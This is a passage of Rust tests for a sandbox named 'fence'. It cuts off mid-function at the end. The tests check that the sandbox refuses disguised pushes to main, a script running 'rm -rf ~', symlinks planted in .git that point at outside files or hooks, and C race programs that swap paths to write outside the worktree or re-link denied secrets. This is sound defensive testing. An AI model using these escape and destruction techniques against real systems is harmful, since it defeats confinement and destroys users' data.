fn a_bare_push_through_a_chain_of_symbolic_refs_to_main_is_refused(w: &World) {
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b work\n\
         git symbolic-ref refs/heads/feat refs/heads/main\n\
         git symbolic-ref HEAD refs/heads/feat\n\
         git push\n",
    );
}

/// With `help.autocorrect` on, git runs `psuh` as `push` in the same process: the
/// misspelling is judged as the push it may become.
fn a_misspelt_push_to_main_is_refused(w: &World) {
    push_from_a_script_is_refused(w, "git -c help.autocorrect=immediate psuh origin main\n");
}

/// `xargs -I{} sh -c '…{}…'` runs as it does outside: the shell string xargs makes of
/// each input line is judged when xargs runs it, not refused at xargs's own exec for the
/// placeholder it still holds.
fn xargs_with_a_placeholder_in_a_shell_string_runs(w: &World) {
    w.write(
        "x.sh",
        "printf 'a\\nb\\n' | xargs -I{} sh -c 'echo got-{} > out-{}.txt'\n\
         printf 'c\\n' | xargs -P2 -I% bash -c 'echo got-% | tr a-z A-Z > out-%.txt'\n",
    );
    let out = w.run(&["/bin/sh", "x.sh"]);
    for (name, text) in [("a", "got-a"), ("b", "got-b"), ("c", "GOT-C")] {
        let made = std::fs::read_to_string(w.worktree.join(format!("out-{name}.txt")));
        assert_eq!(
            made.ok().as_deref().map(str::trim),
            Some(text),
            "{}",
            stderr(&out)
        );
    }
    assert!(!stderr(&out).contains("fence: blocked"), "{}", stderr(&out));
}

/// What xargs makes of its input is still judged when it runs: a push to main it builds
/// from a placeholder is refused at git's exec.
fn a_push_to_main_built_by_xargs_is_refused(w: &World) {
    push_from_a_script_is_refused(w, "echo main | xargs -I{} git push origin {}\n");
}

fn push_from_a_script_is_refused(w: &World, script: &str) {
    push_from_a_script_is_refused_by(w, script, &["git.push-main"]);
}

/// Path calls with flags the kernel does not take fail with its EINVAL and change nothing,
/// as without fence (the supervisor, which carries some of them out, acted as if the flags
/// were not there); a name below a descriptor that is not open gets EBADF, below a pipe
/// ENOTDIR, with no blocked line.
fn path_calls_with_unknown_flags_fail_as_the_kernel_fails_them(w: &World) {
    use std::os::unix::fs::PermissionsExt;
    let f = w.write("f", "x\n");
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
    let probe = w.compile_c(
        "flags",
        r#"
#define _GNU_SOURCE
#include <stdio.h>
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif
int main(void) {
    errno = 0; long r = syscall(SYS_fchmodat2, AT_FDCWD, "f", 0600, 0xffff);
    printf("fchmodat2 %ld %d\n", r, errno);
    errno = 0; r = syscall(SYS_linkat, AT_FDCWD, "f", AT_FDCWD, "g", 0x8000);
    printf("linkat %ld %d\n", r, errno);
    errno = 0; r = syscall(SYS_unlinkat, AT_FDCWD, "f", 0x4000);
    printf("unlinkat %ld %d\n", r, errno);
    errno = 0; r = syscall(SYS_renameat2, AT_FDCWD, "f", AT_FDCWD, "h", 3);
    printf("renameat2 %ld %d\n", r, errno);
    errno = 0; r = syscall(SYS_fchownat, AT_FDCWD, "f", -1, -1, 0x8000);
    printf("fchownat %ld %d\n", r, errno);
    errno = 0; r = openat(977, "x", O_WRONLY | O_CREAT, 0644);
    printf("badfd %ld %d\n", r, errno);
    int p[2]; pipe(p);
    errno = 0; r = openat(p[0], "x", O_WRONLY | O_CREAT, 0644);
    printf("pipefd %ld %d\n", r, errno);
    return 0;
}
"#,
    );
    let out = w.run(&[probe.to_str().unwrap()]);
    let said = stdout(&out);
    for call in ["linkat", "unlinkat", "renameat2", "fchownat"] {
        assert!(
            said.contains(&format!("{call} -1 {}", libc::EINVAL)),
            "{call}: {said}\n{}",
            stderr(&out)
        );
    }
    // A relative name below a descriptor that is not open, or is no folder.
    assert!(
        said.contains(&format!("badfd -1 {}", libc::EBADF)),
        "{said}"
    );
    assert!(
        said.contains(&format!("pipefd -1 {}", libc::ENOTDIR)),
        "{said}"
    );
    assert!(!stderr(&out).contains("blocked"), "{}", stderr(&out));
    // fchmodat2 is Linux 6.6: ENOSYS before it.
    assert!(
        said.contains(&format!("fchmodat2 -1 {}", libc::EINVAL))
            || said.contains(&format!("fchmodat2 -1 {}", libc::ENOSYS)),
        "{said}"
    );
    let mode = std::fs::metadata(&f).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o644, "{said}");
    assert!(f.exists() && !w.worktree.join("g").exists() && !w.worktree.join("h").exists());
}

/// Objects swapped in by another thread for the one a move into the git directory names,
/// with `RENAME_EXCHANGE` in folders granted whole (which the kernel runs): a file moved
/// into `.git` (a held folder: without a mount view the supervisor carries the move out by
/// name) exchanged with a symlink to a folder outside; a socket (which the supervisor
/// moves itself) whose folder is exchanged with one holding a symlink, moved into
/// `.git/logs`; a file exchanged with a folder holding a symlink, moved into `.git/logs`.
/// Whichever object the move takes, no symlink ends up anywhere in `.git`, where fence's
/// next start and the user's git would follow it.
fn a_symlink_swapped_in_for_a_file_moved_into_git_never_stays_there(w: &World) {
    init_on_main_with_a_commit(&w.worktree);
    let victim = w.outside.join("victim");
    std::fs::create_dir_all(victim.join("heads")).unwrap();
    // Each race starts from the same folders (what a race leaves there is its own).
    let prepare = || {
        let sub = w.worktree.join("sub");
        let _ = std::fs::remove_dir_all(&sub);
        for d in ["sub/a", "sub/b", "sub/d/heads"] {
            w.mkdir(d);
        }
        std::fs::write(sub.join("src"), "file\n").unwrap();
        std::os::unix::fs::symlink(&victim, sub.join("lnk")).unwrap();
        std::os::unix::fs::symlink(&victim, sub.join("b/src")).unwrap();
        std::os::unix::fs::symlink(&victim, sub.join("d/heads/main")).unwrap();
        let _ = std::fs::remove_dir_all(w.worktree.join(".git/logs/refs"));
        chown_tree(w, &w.worktree);
    };
    let race = w.compile_c(
        "race",
        r#"
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <pthread.h>
#include <time.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
static volatile int stop;
static const char *x, *y;
static void *swapper(void *a) {
    while (!stop) syscall(SYS_renameat2, AT_FDCWD, x, AT_FDCWD, y, 2);
    return 0;
}
static void sock(const char *p) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {0};
    a.sun_family = AF_UNIX;
    strcpy(a.sun_path, p);
    bind(s, (struct sockaddr *)&a, sizeof a);
    close(s);
}
/* race MODE DEST: MODE "link" exchanges sub/src with sub/lnk; "dir" sub/src with sub/d;
   "sock" the folders sub/a (holding a socket src) and sub/b (holding a symlink src). */
int main(int argc, char **argv) {
    const char *src = "sub/src";
    if (!strcmp(argv[1], "link")) { x = "sub/src"; y = "sub/lnk"; }
    else if (!strcmp(argv[1], "dir")) { x = "sub/src"; y = "sub/d"; }
    else { x = "sub/a"; y = "sub/b"; src = "sub/a/src"; sock("sub/a/src"); }
    pthread_t t;
    pthread_create(&t, 0, swapper, 0);
    time_t end = time(0) + 4;
    long tries = 0, moved = 0;
    while (time(0) < end) {
        tries++;
        if (rename(src, argv[2]) == 0) {
            moved++;
            struct stat st;
            if (lstat(argv[2], &st) == 0 && S_ISLNK(st.st_mode)) break;
            if (!strcmp(argv[1], "sock")) { unlink(argv[2]); sock("sub/a/src"); sock("sub/b/src"); }
            else rename(argv[2], src);
        }
    }
    stop = 1;
    printf("%ld tries, %ld moved\n", tries, moved);
    return 0;
}
"#,
    );
    fn links_below(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let kind = e.file_type().unwrap();
            if kind.is_symlink() {
                out.push(e.path());
            } else if kind.is_dir() {
                links_below(&e.path(), out);
            }
        }
    }
    for (mode, dest) in [
        ("link", ".git/refs-new"),
        ("link", ".git/COMMIT_EDITMSG"),
        ("sock", ".git/logs/HEAD"),
        ("dir", ".git/logs/refs"),
    ] {
        prepare();
        let out = w.run(&[race.to_str().unwrap(), mode, dest]);
        assert!(stdout(&out).contains("tries"), "{}", stderr(&out));
        let mut links = Vec::new();
        links_below(&w.worktree.join(".git"), &mut links);
        assert!(
            links.is_empty(),
            "{mode} {dest}: symlinks in .git {links:?} after {}: {}",
            stdout(&out),
            stderr(&out)
        );
    }
    assert_eq!(std::fs::read_dir(victim.join("heads")).unwrap().count(), 0);
}

/// A repository whose `.git/refs` is a symlink to a folder outside (as a sandbox that won
/// a race could leave it), a linked worktree's `HEAD` naming a branch only `packed-refs`
/// holds: fence's start, which writes such a branch loose to keep it from being moved,
/// follows no link in the git directory and writes nothing outside.
fn a_link_in_the_git_directory_leads_no_write_of_fences_outside(w: &World) {
    init_on_main_with_a_commit(&w.worktree);
    let git_dir = w.worktree.join(".git");
    let tip = git(&w.worktree, &["rev-parse", "HEAD"]);
    std::fs::write(
        git_dir.join("packed-refs"),
        format!(
            "{} refs/heads/main\n{} refs/heads/planted\n",
            tip.trim(),
            "d".repeat(40)
        ),
    )
    .unwrap();
    let admin = git_dir.join("worktrees/other");
    std::fs::create_dir_all(&admin).unwrap();
    std::fs::write(admin.join("gitdir"), "/nonexistent/.git\n").unwrap();
    std::fs::write(admin.join("HEAD"), "ref: refs/heads/planted\n").unwrap();
    let victim = w.outside.join("victim");
    std::fs::create_dir_all(victim.join("heads")).unwrap();
    std::fs::rename(git_dir.join("refs"), git_dir.join("refs.old")).unwrap();
    std::os::unix::fs::symlink(&victim, git_dir.join("refs")).unwrap();
    chown_tree(w, &w.worktree);
    chown_tree(w, &victim);
    let out = w.run(&["/bin/true"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_dir(victim.join("heads")).unwrap().count(),
        0,
        "fence wrote through .git/refs: {}",
        stderr(&out)
    );
}

/// `git init` on branch main in `dir`, with one empty commit.
fn init_on_main_with_a_commit(dir: &Path) {
    git(dir, &["init", "-q", "-b", "main"]);
    git(
        dir,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "c",
        ],
    );
}

/// [`push_from_a_script_is_refused`], the refusal's rule one of `rules`.
fn push_from_a_script_is_refused_by(w: &World, script: &str, rules: &[&str]) {
    let remote = w.outside.join("remote.git");
    git(&w.outside, &["init", "-q", "--bare", "remote.git"]);
    init_on_main_with_a_commit(&w.worktree);
    git(
        &w.worktree,
        &["remote", "add", "origin", &remote.display().to_string()],
    );
    chown_tree(w, &w.worktree);
    chown_tree(w, &remote);
    w.write("push.sh", script);
    let out = w.run(&["/bin/sh", "push.sh"]);
    let refs = std::fs::read_dir(remote.join("refs/heads"))
        .unwrap()
        .count();
    assert_eq!(refs, 0, "the push reached the remote");
    // Refused as a push to main (absolute), not only as a push (which --approver deny
    // refuses too): the branch reached the policy.
    assert!(
        stderr(&out).contains("fence: blocked command")
            && rules.iter().any(|r| stderr(&out).contains(r)),
        "{}",
        stderr(&out)
    );
}

fn chown_tree(w: &World, dir: &Path) {
    w.own(dir);
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        if e.file_type().unwrap().is_dir() {
            chown_tree(w, &e.path());
        } else {
            w.own(&e.path());
        }
    }
}

fn rm_rf_home_from_a_script_is_refused(w: &World) {
    let keep = w.home.join("keep.txt");
    std::fs::write(&keep, "keep").unwrap();
    w.own(&keep);
    w.write("clean.sh", "rm -rf ~\n");
    let out = w.run(&["/bin/sh", "clean.sh"]);
    assert_unchanged(&keep, "keep");
    assert!(stderr(&out).contains("fence: blocked"), "{}", stderr(&out));
}

fn a_thread_swapping_the_path_never_writes_outside(w: &World) {
    let outside = w.outside.join("raced.txt");
    race_opens(
        w,
        &outside,
        &w.worktree.join("ok.txt"),
        "a_thread_swapping_the_path_never_writes_outside",
    );
}

/// An open the supervisor carries out (a create at the worktree's root) borrows the
/// caller's CPU affinity while the descriptor is installed; the caller finds its own mask
/// afterwards, whatever it was (every CPU, the first, the last).
fn carried_out_creates_leave_the_callers_cpu_affinity_as_it_was(w: &World) {
    if !cc_ready("carried_out_creates_leave_the_callers_cpu_affinity_as_it_was") {
        return;
    }
    w.compile_c(
        "affinity",
        r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    int cpus = (int)sysconf(_SC_NPROCESSORS_ONLN);
    cpu_set_t masks[3];
    for (int m = 0; m < 3; m++) CPU_ZERO(&masks[m]);
    for (int c = 0; c < cpus && c < CPU_SETSIZE; c++) CPU_SET(c, &masks[0]);
    CPU_SET(0, &masks[1]);
    CPU_SET(cpus - 1, &masks[2]);
    int made = 0, changed = 0;
    for (int m = 0; m < 3; m++) {
        if (sched_setaffinity(0, sizeof masks[m], &masks[m]) != 0) { perror("setaffinity"); return 2; }
        for (int i = 0; i < 300; i++) {
            char name[32];
            snprintf(name, sizeof name, "aff-%d-%d", m, i);
            int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd >= 0) { made++; close(fd); unlink(name); }
            cpu_set_t now;
            CPU_ZERO(&now);
            if (sched_getaffinity(0, sizeof now, &now) != 0 || !CPU_EQUAL(&now, &masks[m])) changed++;
        }
    }
    printf("made %d changed %d\n", made, changed);
    return 0;
}
"#,
    );
    let out = w.run(&["./affinity"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out).trim(),
        "made 900 changed 0",
        "{}",
        stderr(&out)
    );
}

/// Whether a C compiler is here; says why the test is skipped when not.
fn cc_ready(test: &str) -> bool {
    let here = std::process::Command::new("cc")
        .arg("--version")
        .output()
        .is_ok();
    if !here {
        support::skip(test, "no C compiler (cc)");
    }
    here
}

/// A secret kept unreadable inside the worktree (`--deny-read` of a folder and of a file
/// there) gets no second name: a thread swapping one byte of the source path of `link`
/// and `rename` between a decoy and the secret, 20,000 times each, never links or moves
/// the secret itself, so no name the sandbox may later read or move out holds it. Checked
/// from outside: the secrets keep their one name, and no other file holds their bytes.
fn a_secret_in_the_worktree_gets_no_second_name_by_a_racing_path(w: &World) {
    const TEST: &str = "a_secret_in_the_worktree_gets_no_second_name_by_a_racing_path";
    if !cc_ready(TEST) {
        return;
    }
    w.mkdir("app/secrets");
    w.mkdir("app/secretq");
    w.mkdir("conf");
    let folder_secret = w.write("app/secrets/key.pem", "FOLDER-SECRET\n");
    w.write("app/secretq/key.pem", "decoy\n");
    let file_secret = w.write("conf/token", "FILE-SECRET\n");
    w.write("conf/tokeq", "decoy\n");
    let src = r#"#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static char buf[256];
static volatile int stop;
static size_t at;
static char good, bad;
static void *flip(void *a) {
    (void)a;
    volatile char *p = buf + at;
    while (!stop) {
        *p = bad; for (volatile int k = 0; k < 50; k++) {}
        *p = good; for (volatile int k = 0; k < 50; k++) {}
    }
    return 0;
}
/* Races SECRET (whose byte at `i` the decoy changes to 'q') through link and rename. */
static int race(const char *secret, const char *decoy, const char *dest) {
    struct stat ss, ds;
    /* Hidden whole by a mount view: raced all the same, judged from outside. */
    if (stat(secret, &ss) != 0) ss.st_ino = 0;
    strcpy(buf, decoy);
    at = 0;
    while (secret[at] == decoy[at]) at++;
    good = decoy[at]; bad = secret[at];
    stop = 0;
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    int won = 0;
    for (int i = 0; i < 20000 && !won; i++) {
        if (link(buf, dest) == 0) {
            if (stat(dest, &ds) == 0 && ss.st_ino && ds.st_ino == ss.st_ino) won = 1; else unlink(dest);
        }
        if (!won && rename(buf, dest) == 0) {
            if (stat(dest, &ds) == 0 && ss.st_ino && ds.st_ino == ss.st_ino) won = 2;
            else if (rename(dest, decoy) != 0) { perror("rename back"); break; }
        }
    }
    stop = 1;
    pthread_join(t, 0);
    return won;
}
int main(void) {
    printf("folder %d\n", race("app/secrets/key.pem", "app/secretq/key.pem", "app/zz"));
    printf("file %d\n", race("conf/token", "conf/tokeq", "conf/zz"));
    return 0;
}
"#;
    let bin = w.compile_c("secret-race", src);
    let out = w
        .fence(&[
            "--quiet-blocks".as_ref(),
            "--deny-read".as_ref(),
            w.worktree.join("app/secrets").as_os_str(),
            "--deny-read".as_ref(),
            file_secret.as_os_str(),
            "--".as_ref(),
            bin.as_os_str(),
        ])
        .output()
        .unwrap();
    let report = format!("{}{}", stdout(&out), stderr(&out));
    for (secret, bytes) in [
        (&folder_secret, "FOLDER-SECRET\n"),
        (&file_secret, "FILE-SECRET\n"),
    ] {
        assert_unchanged(secret, bytes);
        let meta = std::fs::metadata(secret).unwrap();
        assert_eq!(
            meta.nlink(),
            1,
            "{} got another name: {report}",
            secret.display()
        );
        // No other file of the worktree holds it.
        let mut stack = vec![w.worktree.clone()];
        while let Some(dir) = stack.pop() {
            for entry in std::fs::read_dir(&dir).unwrap().flatten() {
                let path = entry.path();
                let m = std::fs::symlink_metadata(&path).unwrap();
                if m.is_dir() {
                    stack.push(path);
                } else if m.is_file() && path != *secret {
                    assert!(
                        m.ino() != meta.ino() && std::fs::read(&path).unwrap() != bytes.as_bytes(),
                        "{} holds {}: {report}",
                        path.display(),
                        secret.display()
                    );
                }
            }
        }
    }
    assert!(stdout(&out).contains("folder 0\nfile 0\n"), "{report}");
}

/// The call a race loop makes on the swapped path.
#[derive(Clone, Copy)]
enum Raced {
    /// `open(O_WRONLY | O_CREAT | O_APPEND)` and a write.
    Open,
    /// `mkdir`.
    Mkdir,
    /// `rename` of a fresh file onto the path.
    Rename,
    /// `symlink` at the path.
    Symlink,
    /// `bind` of a unix socket to the path (the sockaddr itself is swapped).
    Bind,
}

/// Opens a path 10,000 times while another thread swaps it between `inside` (a file the
/// sandbox may write) and `target`; `target` must never be written. When the two paths
/// have the same length the swap writes only the bytes that differ (one byte: the kernel
/// and fence never read a torn mixture of the two), else the whole string.
fn race_opens(w: &World, target: &Path, inside: &Path, test: &str) {
    race_calls(w, target, inside, test, Raced::Open);
}

/// [`race_opens`] with another call: `target` must keep what it was (missing stays
/// missing, a file keeps its bytes) whatever `call` the loop makes.
fn race_calls(w: &World, target: &Path, inside: &Path, test: &str, call: Raced) {
    race_calls_after(w, target, inside, test, call, None);
}

/// [`race_calls`], the loop starting only once `late` (run outside, while the sandbox is
/// up) has changed the worktree.
fn race_calls_after(
    w: &World,
    target: &Path,
    inside: &Path,
    test: &str,
    call: Raced,
    late: Option<&dyn Fn()>,
) {
    race_calls_with(w, target, inside, test, call, late, false);
}

/// [`race_calls_with`], the folder holding `inside` being made by the sandbox itself just
/// before the loop (so it is a folder made during the session).
fn race_calls_in_a_new_folder(w: &World, target: &Path, inside: &Path, test: &str, call: Raced) {
    race_calls_with(w, target, inside, test, call, None, true);
}

fn race_calls_with(
    w: &World,
    target: &Path,
    inside: &Path,
    test: &str,
    call: Raced,
    late: Option<&dyn Fn()>,
    new_folder: bool,
) {
    if !python_ready(test) {
        return;
    }
    if !cc_ready(test) {
        return;
    }
    let outside = target.to_path_buf();
    let (go, ready) = (w.worktree.join("race-go"), w.worktree.join("race-ready"));
    let _ = std::fs::remove_file(&go);
    let _ = std::fs::remove_file(&ready);
    let inside = inside.to_path_buf();
    // A name an earlier race left there would make every call fail.
    let _ = std::fs::remove_file(&inside);
    let _ = std::fs::remove_dir(&inside);
    let folder = inside.parent().unwrap_or(&w.worktree).to_path_buf();
    if new_folder {
        let _ = std::fs::remove_dir_all(&folder);
    }
    // Beside the raced name: a rename inside one directory.
    let source = inside.parent().unwrap_or(&w.worktree).join("race-source");
    // Each made name is removed by its literal (inside) path, so the next call can make it
    // again; a name made at the target would stay and fail the test.
    let body = match call {
        Raced::Open => {
            "int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);\n        if (fd >= 0) { write(fd, \"x\", 1); close(fd); ok++; } else refused++;"
        }
        Raced::Mkdir => "if (mkdir(path, 0755) == 0) { ok++; rmdir(in); } else refused++;",
        Raced::Rename => {
            "close(open(src, O_WRONLY | O_CREAT, 0644));\n        if (rename(src, path) == 0) { ok++; unlink(in); } else refused++;"
        }
        Raced::Symlink => "if (symlink(\"x\", path) == 0) { ok++; unlink(in); } else refused++;",
        Raced::Bind => {
            "int s = socket(AF_UNIX, SOCK_STREAM, 0);\n        if (bind(s, (struct sockaddr *)&u.sa, sizeof u.sa) == 0) { ok++; unlink(in); } else refused++;\n        close(s);"
        }
    };
    let src = format!(
        r#"#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>
static union {{ struct sockaddr_un sa; char raw[4096]; }} u;
#define path (u.sa.sun_path)
static const char *in = "{inside}", *out = "{outside}", *src = "{source}", *go = "{go}", *ready = "{ready}";
static volatile int stop;
static void spin(void) {{ __asm__ volatile("" ::: "memory"); for (volatile int i = 0; i < 200; i++) {{}} __asm__ volatile("" ::: "memory"); }}
static void put(const char *s) {{
    if (strlen(in) != strlen(out)) {{ strcpy(path, s); return; }}
    for (size_t i = 0; in[i]; i++)
        if (in[i] != out[i]) ((volatile char *)path)[i] = s[i];
}}
static void *swap(void *arg) {{
    (void)arg;
    while (!stop) {{ put(out); spin(); put(in); spin(); }}
    return 0;
}}
int main(void) {{
    pthread_t t;
    int ok = 0, refused = 0;
    (void)src;
    u.sa.sun_family = AF_UNIX;
    {wait}
    {made}
    strcpy(path, in);
    pthread_create(&t, 0, swap, 0);
    for (int i = 0; i < 10000; i++) {{
        {body}
    }}
    stop = 1;
    pthread_join(t, 0);
    printf("%d %d\n", ok, refused);
    return 0;
}}
"#,
        inside = inside.display(),
        outside = outside.display(),
        source = source.display(),
        go = go.display(),
        wait = if late.is_some() {
            "close(open(ready, O_WRONLY | O_CREAT, 0644)); while (access(go, F_OK) != 0) usleep(1000);"
        } else {
            "(void)go; (void)ready;"
        },
        ready = ready.display(),
        made = if new_folder {
            format!(
                "if (mkdir(\"{}\", 0755) != 0) {{ perror(\"mkdir\"); return 1; }}",
                folder.display()
            )
        } else {
            String::new()
        },
    );
    let bin = w.compile_c("race", &src);
    let child = w
        .fence(&["--quiet-blocks".as_ref(), "--".as_ref(), bin.as_os_str()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    if let Some(late) = late {
        // Once the sandbox is up (its mounts made).
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while !ready.exists() && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        assert!(ready.exists(), "the race program never started");
        late();
    }
    let before = std::fs::read(&outside).ok();
    let existed = std::fs::symlink_metadata(&outside).is_ok();
    if late.is_some() {
        std::fs::write(&go, "").unwrap();
    }
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::symlink_metadata(&outside).is_ok(),
        existed,
        "a swapped path made or removed {}",
        outside.display()
    );
    assert!(
        std::fs::read(&outside).ok() == before,
        "a swapped path got a write to {}",
        outside.display()
    );
    let counts: Vec<u32> = stdout(&out)
        .split_whitespace()
        .filter_map(|n| n.parse().ok())
        .collect();
    // Both outcomes must have happened, or the race was not exercised.
    assert!(
        counts.len() == 2 && counts[0] > 0 && counts[1] > 0,
        "race not exercised: {counts:?}"
    );
}

/// git makes no symbolic link in its own directory, and follows one it finds there: a
/// reflog is appended to through it on every commit. A link the sandbox planted at
/// `.git/logs/refs/heads/BRANCH` made the user's next commit, outside the sandbox, append
/// a line to the file it named (outside the worktree, or a hook). No symbolic link is made
/// beneath a `.git` directory — refused with a reason, and by Landlock (no `MakeSym`
/// there) for a path a racing thread swaps in after the check.
/// `renameat2(RENAME_EXCHANGE)` moves the object at its new name to its old name too: a
/// symlink exchanged into a git directory (`.git/COMMIT_EDITMSG` for a link to a file
/// outside, which the user's next `git commit` writes through), or a link into a git
/// directory's content exchanged to a name of the worktree (from the session TMPDIR, which
/// no rule watches), is refused as the same link made or moved there is.
fn a_symlink_exchanged_into_place_is_judged_as_one_moved_there(w: &World) {
    let test = "a_symlink_exchanged_into_place_is_judged_as_one_moved_there";
    if !python_ready(test) {
        return;
    }
    git_init(w);
    w.write("f", "f\n");
    git(&w.worktree, &["add", "f"]);
    git(&w.worktree, &["commit", "-q", "-m", "f"]);
    w.write(".git/COMMIT_EDITMSG", "f\n");
    w.mkdir("sub");
    w.mkdir(".git/x");
    w.write("tool", "a file\n");
    chown_tree(w, &w.worktree);
    let victim = w.write_outside("victim.txt", "original\n");
    w.write(
        "exchange.py",
        &format!(
            "import ctypes, os\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             def exchange(a, b):\n\
             \x20   r = libc.syscall(316, -100, a.encode(), -100, b.encode(), 2)\n\
             \x20   print(a, b, 'exchanged' if r == 0 else 'refused %d' % ctypes.get_errno())\n\
             os.symlink({victim:?}, 'sub/l')\n\
             exchange('.git/COMMIT_EDITMSG', 'sub/l')\n\
             tmp = os.environ['TMPDIR']\n\
             os.symlink({git_x:?}, tmp + '/s')\n\
             exchange('tool', tmp + '/s')\n",
            victim = victim.display().to_string(),
            git_x = w.worktree.join(".git/x").display().to_string(),
        ),
    );
    let out = w.run(&[PYTHON, "exchange.py"]);
    // The user's git, after the session, outside it.
    git(
        &w.worktree,
        &["commit", "-q", "--allow-empty", "-m", "user"],
    );
    assert_unchanged(&victim, "original\n");
    for name in [".git/COMMIT_EDITMSG", "tool"] {
        let meta = std::fs::symlink_metadata(w.worktree.join(name)).unwrap();
        assert!(
            !meta.file_type().is_symlink(),
            "{name} is a symlink now: {}{}",
            stdout(&out),
            stderr(&out)
        );
    }
    assert!(
        !stdout(&out).contains(" exchanged"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
}

/// A relative symlink means something else from another folder: one made where it names a
/// folder outside every writable root is judged again at a new name it is hard-linked to
/// (`link` without `AT_SYMLINK_FOLLOW` links the symlink itself), as at one it is renamed
/// to. From the shallower folder the same target names the session TMPDIR, a writable
/// place no rule by name watches: asked, so refused here, with the reason.
fn a_symlink_hard_linked_to_a_new_name_is_judged_there(w: &World) {
    let test = "a_symlink_hard_linked_to_a_new_name_is_judged_there";
    if !python_ready(test) {
        return;
    }
    git_init(w);
    w.mkdir("a/b/c");
    chown_tree(w, &w.worktree);
    w.write(
        "link.py",
        "import os\n\
         tmp = os.environ['TMPDIR']\n\
         # From a/, this names the TMPDIR; from a/b/c, a folder two levels further down,\n\
         # outside the worktree and every writable root.\n\
         target = os.path.relpath(tmp, os.path.abspath('a'))\n\
         os.symlink(target, 'a/b/c/l')\n\
         print('made', os.path.realpath('a/b/c/l') != os.path.realpath(tmp))\n\
         for name, call in [('a/l', lambda: os.link('a/b/c/l', 'a/l', follow_symlinks=False)),\n\
         \x20                  ('a/m', lambda: os.rename('a/b/c/l', 'a/m'))]:\n\
         \x20   try:\n\
         \x20       call()\n\
         \x20       print(name, 'made')\n\
         \x20   except OSError as e:\n\
         \x20       print(name, 'refused', e.errno)\n",
    );
    let out = w.run(&[PYTHON, "link.py"]);
    let (o, e) = (stdout(&out), stderr(&out));
    assert!(o.contains("made True"), "the symlink was not made: {o}{e}");
    assert!(
        std::fs::symlink_metadata(w.worktree.join("a/b/c/l")).is_ok(),
        "{o}{e}"
    );
    for name in ["a/l", "a/m"] {
        assert!(
            std::fs::symlink_metadata(w.worktree.join(name)).is_err(),
            "{name} was made: {o}{e}"
        );
        assert!(o.contains(&format!("{name} refused")), "{o}{e}");
    }
    assert!(e.contains("rule fence.protected-path"), "{e}");
}

fn no_symlink_is_made_in_a_git_directory_for_the_users_git(w: &World) {
    let test = "no_symlink_is_made_in_a_git_directory_for_the_users_git";
    if !python_ready(test) {
        return;
    }
    git_init(w);
    w.write("f", "f\n");
    git(&w.worktree, &["add", "f"]);
    git(&w.worktree, &["commit", "-q", "-m", "f"]);
    w.mkdir("ssss/logs/refs/heads");
    chown_tree(w, &w.worktree);
    let victim = w.write_outside("victim.txt", "original\n");
    w.write(
        "plant.py",
        &format!(
            "import os\n\
             heads = '.git/logs/refs/heads'\n\
             os.rename(heads + '/work', heads + '/work.real')\n\
             for target, link in [({victim:?}, heads + '/work'), ('../../../hooks/pre-commit', heads + '/other'), ({victim:?}, '.git/planted')]:\n\
             \x20   try:\n\
             \x20       os.symlink(target, link)\n\
             \x20       print('made', link)\n\
             \x20   except OSError as e:\n\
             \x20       print('refused', link, e.errno)\n\
             os.symlink({victim:?}, 'ssss/x')\n\
             try:\n\
             \x20   os.rename('ssss/x', heads + '/moved')\n\
             \x20   print('moved in')\n\
             except OSError as e:\n\
             \x20   print('move refused', e.errno)\n",
            victim = victim.display().to_string()
        ),
    );
    let out = w.run(&[PYTHON, "plant.py"]);
    let err = stderr(&out);
    // The user's git, after the session, outside it.
    git(
        &w.worktree,
        &["commit", "-q", "--allow-empty", "-m", "user"],
    );
    assert_unchanged(&victim, "original\n");
    let mut stack = vec![w.worktree.join(".git")];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            let t = e.file_type().unwrap();
            assert!(!t.is_symlink(), "symlink {} made", e.path().display());
            if t.is_dir() {
                stack.push(e.path());
            }
        }
    }
    assert!(
        err.contains("fence: blocked symlink inside a git directory: ")
            && err.contains("(rule fence.protected-path)"),
        "{}{err}",
        stdout(&out)
    );
    let wt = &w.worktree;
    race_calls(
        w,
        &wt.join(".git/logs/refs/heads/lnk"),
        &wt.join("ssss/logs/refs/heads/lnk"),
        test,
        Raced::Symlink,
    );
}

fn builds_and_git_inside_run_as_usual(w: &World) {
    w.write(
        "Makefile",
